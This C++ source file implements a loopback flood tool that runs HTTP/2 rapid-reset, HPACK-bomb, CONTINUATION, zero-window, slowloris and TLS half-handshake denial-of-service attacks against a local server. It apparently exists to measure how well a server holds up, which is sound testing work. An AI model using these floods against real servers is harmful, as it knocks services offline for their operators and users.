// Clients that attack, as fast as what one core has left:
//   flood KIND PORT SECONDS        to 127.0.0.1, by TLS, from 127.0.0.2 and up
// KIND is one of the table `floods` below. A connection that the server ends is opened anew at once. It runs in the
// kernel's idle class; a client measured beside it has to be in a real-time class, so that it waits for the server and
// neither for this nor for the packets that the kernel still has to deliver for it. Prints {"sent", "connections",
// "ended", "mebibytes", "cpu"} as JSON: `sent` is what the flood consists of (frames, streams, heads, handshakes),
// `ended` the connections that the server closed.
#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <sched.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <deque>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace {

using namespace std::string_literals;
using Clock = std::chrono::steady_clock;
constexpr std::size_t piece = 16 * 1024;  // written at a turn
constexpr std::uint32_t streams_held = 100;

[[noreturn]] void die(const char* words) {
  std::perror(words);
  std::exit(1);
}

// ---- frames (RFC 9113 §4.1) ----

enum Type : char {
  data,
  headers,
  priority,
  rst_stream,
  settings,
  push_promise,
  ping,
  goaway,
  window_update,
  continuation
};
constexpr char end_stream = 1, end_headers = 4;

std::string number(std::uint32_t value) {
  return {static_cast<char>(value >> 24), static_cast<char>(value >> 16), static_cast<char>(value >> 8),
          static_cast<char>(value)};
}

std::string frame(Type type, char flags, std::uint32_t stream, std::string_view payload = {}) {
  return number(static_cast<std::uint32_t>(payload.size())).substr(1) + static_cast<char>(type) + flags +
         number(stream) + std::string(payload);
}

// RFC 7541 §5.1, 7 bits of prefix.
std::string length(std::size_t value) {
  if (value < 127) return {static_cast<char>(value)};
  std::string text = "\x7f";
  for (value -= 127; value >= 128; value >>= 7) text += static_cast<char>(value | 128);
  return text + static_cast<char>(value);
}

std::string literal(std::string_view name, std::string_view value) {
  return "\0"s + length(name.size()) + std::string(name) + length(value.size()) + std::string(value);
}

std::string request(char method, std::string_view path) {
  return method + "\x87\x04"s + length(path.size()) + std::string(path) + "\x01\x09localhost";
}
const std::string get = request('\x82', "/1k"), get_large = request('\x82', "/64k"), post = request('\x83', "/1k");

const std::string preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const std::string window_of_nothing = "\x00\x04\x00\x00\x00\x00"s;  // SETTINGS_INITIAL_WINDOW_SIZE 0

// ---- what each flood sends ----

struct Attacker {
  SSL* tls = nullptr;
  int fd = -1;
  bool greeted = false, queued = false;
  std::uint32_t stream = 1;
  std::uint64_t turn = 0;
  std::string out;
  std::size_t written = 0;
};

// Adds to `out` what comes next; returns how many of what is counted. Nothing added: it only waits.
using More = std::uint64_t (*)(Attacker&);

std::uint64_t repeat(Attacker& attacker, std::string (*next)(Attacker&)) {
  std::uint64_t count = 0;
  for (; attacker.out.size() < piece; ++count) attacker.out += next(attacker);
  return count;
}

std::uint32_t next_stream(Attacker& attacker) { return std::exchange(attacker.stream, attacker.stream + 2); }

std::uint64_t rapid_reset(Attacker& attacker) {
  return repeat(attacker, [](Attacker& a) {
    const auto stream = next_stream(a);
    return frame(headers, end_headers | end_stream, stream, get) + frame(rst_stream, 0, stream, number(8));
  });
}

std::uint64_t made_you_reset(Attacker& attacker) {
  return repeat(attacker, [](Attacker& a) {
    const auto stream = next_stream(a);
    return frame(headers, end_headers | end_stream, stream, get) + frame(window_update, 0, stream, number(0));
  });
}

std::uint64_t pings(Attacker& attacker) {
  return repeat(attacker, [](Attacker&) { return frame(ping, 0, 0, "12345678"); });
}

std::uint64_t settings_frames(Attacker& attacker) {
  return repeat(attacker, [](Attacker&) { return frame(settings, 0, 0); });
}

std::uint64_t continuations(Attacker& attacker) {
  if (attacker.stream == 1) attacker.out += frame(headers, 0, next_stream(attacker), get);
  return repeat(attacker, [](Attacker&) { return frame(continuation, 0, 1, literal("x-a", std::string(100, 'a'))); });
}

std::uint64_t empty_data(Attacker& attacker) {
  if (attacker.stream == 1) attacker.out += frame(headers, end_headers, next_stream(attacker), post);
  return repeat(attacker, [](Attacker&) { return frame(data, 0, 1); });
}

// One field of almost the whole table, named 12,000 times: 47 MB (RFC 7541 §7.3).
std::uint64_t hpack_bombs(Attacker& attacker) {
  const bool first = attacker.stream == 1;
  const std::string value(3900, 'a');
  const std::string entry = first ? "\x40\x01x" + length(value.size()) + value : ""s;
  attacker.out +=
      frame(headers, end_headers | end_stream, next_stream(attacker), get + entry + std::string(12'000, '\xbe'));
  return 1;
}

void ask_with_shut_windows(Attacker& attacker) {
  attacker.out += frame(settings, 0, 0, window_of_nothing);
  for (std::uint32_t i = 0; i < streams_held; ++i)
    attacker.out += frame(headers, end_headers | end_stream, next_stream(attacker), get_large);
}

std::uint64_t tiny_windows(Attacker& attacker) {
  if (attacker.stream == 1) ask_with_shut_windows(attacker);
  return repeat(attacker, [](Attacker& a) {
    const auto stream = static_cast<std::uint32_t>(2 * (a.turn++ % streams_held) + 1);
    return frame(window_update, 0, stream, number(1));
  });
}

std::uint64_t shut_windows(Attacker& attacker) {
  if (attacker.stream != 1) return 0;
  ask_with_shut_windows(attacker);
  return streams_held;
}

// 56 KB of a head that does not end.
std::uint64_t open_heads(Attacker& attacker) {
  if (attacker.stream != 1) return 0;
  const std::string fields = literal("x-a", std::string(7000, 'a')) + literal("x-b", std::string(7000, 'b'));
  attacker.out += frame(headers, 0, next_stream(attacker), get);
  for (int i = 0; i < 4; ++i) attacker.out += frame(continuation, 0, 1, fields);
  return 1;
}

// Of HTTP/1.1: a byte at each tick.
std::uint64_t slow_heads(Attacker& attacker) {
  attacker.out += attacker.stream == 1 ? "GET /1k HTTP/1.1\r\nHost: localhost\r\nX-Slow: " : "a";
  next_stream(attacker);
  return 1;
}

std::uint64_t nothing(Attacker&) { return 0; }

enum class Entry : std::uint8_t { http2, http1, half_handshake, connection };

struct Flood {
  std::string_view name;
  int connections;
  More more;
  Entry entry = Entry::http2;
  bool ticks = false;  // `more` is asked once a second, not all the time
};

constexpr Flood floods[] = {
    {"rapid-reset", 16, rapid_reset},
    {"made-you-reset", 16, made_you_reset},
    {"pings", 16, pings},
    {"settings", 16, settings_frames},
    {"continuations", 16, continuations},
    {"hpack-bombs", 16, hpack_bombs},
    {"empty-data", 16, empty_data},
    {"tiny-windows", 16, tiny_windows},
    {"shut-windows", 100, shut_windows},
    {"open-heads", 500, open_heads},
    {"slow-heads", 1000, slow_heads, Entry::http1, true},
    {"half-handshakes", 64, nothing, Entry::half_handshake},
    {"connections", 64, nothing, Entry::connection},
};

// ---- the connections ----

class Attack {
 public:
  Attack(const Flood& flood, int port)
      : flood_(flood), port_(port), attackers_(static_cast<std::size_t>(flood.connections)) {
    if (flood.entry == Entry::http2)
      SSL_CTX_set_alpn_protos(context_, reinterpret_cast<const unsigned char*>("\x02h2"), 3);
    SSL_CTX_set_mode(context_, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    for (auto& each : attackers_) open(each);
  }

  void run(Clock::time_point until) {
    auto tick = Clock::now();
    while (Clock::now() < until) {
      hear();
      if (flood_.ticks && Clock::now() >= tick) {
        tick += std::chrono::seconds(1);
        for (auto& each : attackers_) enqueue(each);
        ticked_ = true;
      }
      // Those at hand now; who has more to say joins behind them.
      for (std::size_t left = queue_.size(); left > 0; --left) {
        Attacker& attacker = *queue_.front();
        queue_.pop_front();
        attacker.queued = false;
        take_turn(attacker);
      }
      ticked_ = false;
    }
  }

  std::uint64_t sent = 0, connections = 0, ended = 0, bytes = 0;

 private:
  void enqueue(Attacker& attacker) {
    if (attacker.queued) return;
    attacker.queued = true;
    queue_.push_back(&attacker);
  }

  void hear() {
    epoll_event events[256];
    const int count = epoll_wait(poll_, events, 256, queue_.empty() ? 50 : 0);
    for (int i = 0; i < count; ++i) enqueue(*static_cast<Attacker*>(events[i].data.ptr));
  }

  void open(Attacker& attacker) {
    const bool queued = attacker.queued;
    attacker = {};
    attacker.queued = queued;
    attacker.fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (attacker.fd < 0) die("socket");
    const int on = 1;
    const linger at_once{1, 0};  // leaves no port waiting
    setsockopt(attacker.fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    setsockopt(attacker.fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
    const sockaddr_in from = address_of(0, INADDR_LOOPBACK + 1 + static_cast<std::uint32_t>(connections % 8));
    const sockaddr_in to = address_of(port_, INADDR_LOOPBACK);
    setsockopt(attacker.fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    if (bind(attacker.fd, reinterpret_cast<const sockaddr*>(&from), sizeof from) != 0) die("bind");
    if (connect(attacker.fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0 && errno != EINPROGRESS)
      die("connect");
    epoll_event event{EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, {.ptr = &attacker}};
    if (epoll_ctl(poll_, EPOLL_CTL_ADD, attacker.fd, &event) != 0) die("epoll_ctl");
    attacker.tls = SSL_new(context_);
    SSL_set_fd(attacker.tls, attacker.fd);
    SSL_set_tlsext_host_name(attacker.tls, "localhost");
    SSL_set_connect_state(attacker.tls);
    ++connections;
  }

  static sockaddr_in address_of(int port, std::uint32_t host) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<std::uint16_t>(port));
    address.sin_addr.s_addr = htonl(host);
    return address;
  }

  void again(Attacker& attacker) {
    SSL_free(attacker.tls);
    close(attacker.fd);
    open(attacker);
  }

  void lose(Attacker& attacker) {
    ++ended;
    again(attacker);
  }

  // Whether the socket is connected; a refusal is an end too.
  bool connected(Attacker& attacker) {
    int error = 0;
    socklen_t size = sizeof error;
    sockaddr_in peer{};
    socklen_t peer_size = sizeof peer;
    if (getsockopt(attacker.fd, SOL_SOCKET, SO_ERROR, &error, &size) != 0 || error != 0) return lose(attacker), false;
    return getpeername(attacker.fd, reinterpret_cast<sockaddr*>(&peer), &peer_size) == 0;
  }

  void take_turn(Attacker& attacker) {
    if (attacker.greeted) return speak(attacker);
    if (!connected(attacker)) return;
    if (flood_.entry == Entry::connection) return ++sent, again(attacker);
    if (flood_.entry == Entry::half_handshake) return shake_half(attacker);
    ERR_clear_error();
    const int result = SSL_do_handshake(attacker.tls);
    if (result != 1) return waits(attacker, result) ? void() : lose(attacker);
    attacker.greeted = true;
    if (flood_.entry == Entry::http2) {
      const unsigned char* chosen = nullptr;
      unsigned size = 0;
      SSL_get0_alpn_selected(attacker.tls, &chosen, &size);
      if (size != 2) {
        std::fprintf(stderr, "flood: the server does not speak HTTP/2\n");
        std::exit(1);
      }
      attacker.out = preface + frame(settings, 0, 0);
    }
    speak(attacker);
  }

  // Leaves when the server has signed, which is what costs it most.
  void shake_half(Attacker& attacker) {
    char byte = 0;
    if (recv(attacker.fd, &byte, 1, MSG_PEEK | MSG_DONTWAIT) == 1) return ++sent, again(attacker);
    ERR_clear_error();
    const int result = SSL_do_handshake(attacker.tls);
    if (result != 1 && !waits(attacker, result)) lose(attacker);
  }

  static bool waits(const Attacker& attacker, int result) {
    const int error = SSL_get_error(attacker.tls, result);
    return error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE;
  }

  // Drops what the server says, then goes on until the socket is full.
  void speak(Attacker& attacker) {
    char dropped[piece];
    ERR_clear_error();
    int result = 0;
    while ((result = SSL_read(attacker.tls, dropped, sizeof dropped)) > 0) {
    }
    if (!waits(attacker, result)) return lose(attacker);
    if (attacker.written == attacker.out.size()) {
      attacker.out.clear();
      attacker.written = 0;
    }
    if (attacker.written == 0 && (!flood_.ticks || ticked_ || attacker.stream == 1)) sent += flood_.more(attacker);
    if (attacker.out.empty()) return;
    result = SSL_write(attacker.tls, attacker.out.data() + attacker.written,
                       static_cast<int>(attacker.out.size() - attacker.written));
    if (result > 0) {
      attacker.written += static_cast<std::size_t>(result);
      bytes += static_cast<std::uint64_t>(result);
      enqueue(attacker);
    } else if (!waits(attacker, result)) {
      lose(attacker);
    }
  }

  const Flood& flood_;
  const int port_;
  const int poll_ = epoll_create1(0);
  SSL_CTX* const context_ = SSL_CTX_new(TLS_client_method());
  std::vector<Attacker> attackers_;
  std::deque<Attacker*> queue_;
  bool ticked_ = false;
};

const Flood* named(std::string_view name) {
  for (const auto& flood : floods)
    if (flood.name == name) return &flood;
  return nullptr;
}

double cpu_seconds() {
  rusage used{};
  getrusage(RUSAGE_SELF, &used);
  const auto seconds = [](const timeval& time) {
    return static_cast<double>(time.tv_sec) + 1e-6 * static_cast<double>(time.tv_usec);
  };
  return seconds(used.ru_utime) + seconds(used.ru_stime);
}

}  // namespace

int main(int argc, char** argv) {
  const Flood* flood = argc == 4 ? named(argv[1]) : nullptr;
  if (flood == nullptr) {
    std::fprintf(stderr, "usage: flood KIND PORT SECONDS\n");
    return 2;
  }
  std::signal(SIGPIPE, SIG_IGN);
  const sched_param none{};
  if (sched_setscheduler(0, SCHED_IDLE, &none) != 0) die("sched_setscheduler");
  const double seconds = std::atof(argv[3]);
  Attack attack(*flood, std::atoi(argv[2]));
  attack.run(Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds)));
  std::printf("{\"sent\": %llu, \"connections\": %llu, \"ended\": %llu, \"mebibytes\": %.1f, \"cpu\": %.3f}\n",
              static_cast<unsigned long long>(attack.sent), static_cast<unsigned long long>(attack.connections),
              static_cast<unsigned long long>(attack.ended), static_cast<double>(attack.bytes) / (1 << 20),
              cpu_seconds() / seconds);
}
